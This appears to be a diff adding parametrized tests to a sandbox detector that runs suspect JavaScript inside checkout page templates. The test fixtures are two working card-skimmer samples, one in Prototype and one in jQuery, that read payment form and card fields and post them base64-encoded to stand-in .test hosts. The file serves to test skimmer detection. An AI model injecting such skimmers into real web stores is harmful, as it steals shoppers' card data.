@@ -117,3 +117,28 @@ async def test_an_html_fragment_runs_inside_a_checkout(detonator: Detonator) -> 
                                       templates=["woocommerce"])
     (found,) = exfiltration(result)
     assert found.script == "s1" and result.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(("template", "code"), [
+    # Magento 1's Prototype, as old kits for it call it: no checks that the API exists
+    ("magento1-onepage", """document.observe('dom:loaded', function () {
+      Event.observe($('co-payment-form'), 'change', function () {
+        if (!$F('authorizenet_cc_cid')) return;
+        new Ajax.Request('https://mage-metrics.test/collect', {method: 'post',
+          parameters: {d: btoa(Form.serialize($('co-payment-form')))}});
+      });
+    });"""),
+    # jQuery 1.x: .live(), .size(), $.browser (gone from jQuery 3)
+    ("custom-autocomplete", """if (!$.browser.msie && $('#card').size() > 0) {
+      $('#code').live('change', function () {
+        $.ajax({type: 'POST', url: 'https://jq-stats.test/s',
+                data: {v: btoa($('#card').val() + '|' + $('#code').val())}});
+      });
+    }"""),
+])
+async def test_old_kits_find_the_old_apis_they_assume(detonator: Detonator, template: str,
+                                                      code: str) -> None:
+    result = await detonator.detonate("old.js", code, templates=[template])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    (found,) = exfiltration(result)
+    assert found.script == "s1"  # the file, not Prototype or jQuery it called through
